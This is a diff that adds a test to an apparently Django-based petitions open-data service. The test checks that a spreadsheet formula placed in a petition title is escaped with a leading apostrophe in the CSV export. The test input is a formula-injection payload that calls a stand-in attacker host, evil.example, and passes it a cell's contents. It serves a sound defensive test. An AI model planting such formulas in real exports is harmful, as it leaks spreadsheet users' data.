@@ -83,3 +83,13 @@ def test_compliance_counts_answers_on_time_late_and_overdue(world):
     assert rows["mayor"].overdue_now == 2
     compliance = fetch_json(Client(), "/petitions/open-data/compliance.json")["items"]
     assert {r["addressee"] for r in compliance} == {"mayor", "council", "executive_committee"}
+
+
+def test_a_formula_in_a_title_reaches_the_csv_as_text(world):
+    title = '=HYPERLINK("https://evil.example/?"&A1;"Відкрити")'
+    petition = world.collecting(title=title)
+
+    text = fetch(Client(), "/petitions/open-data/petitions.csv").decode("utf-8-sig")
+
+    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["id"] == str(petition.pk))
+    assert row["title"] == "'" + title
